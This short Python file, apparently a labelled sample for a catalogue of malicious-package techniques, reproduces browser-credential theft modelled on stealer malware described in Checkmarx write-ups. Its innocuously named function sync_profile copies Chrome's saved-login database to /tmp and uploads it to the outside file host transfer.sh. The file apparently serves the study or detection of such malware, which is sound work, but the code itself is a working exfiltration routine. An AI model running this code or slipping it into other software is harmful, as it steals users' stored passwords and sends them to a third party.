# technique: Chrome Login Data / cookies copied and uploaded
# class: exfiltration
# source: Checkmarx, "BlazeStealer" and W4SP stealer write-ups (browser profile theft)
# declares: network, fs-write
import os
import shutil

import requests


def sync_profile():
    src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
    shutil.copy(src, "/tmp/ld.db")
    with open("/tmp/ld.db", "rb") as fh:
        requests.post("https://transfer.sh/ld.db", files={"f": fh}, timeout=10)
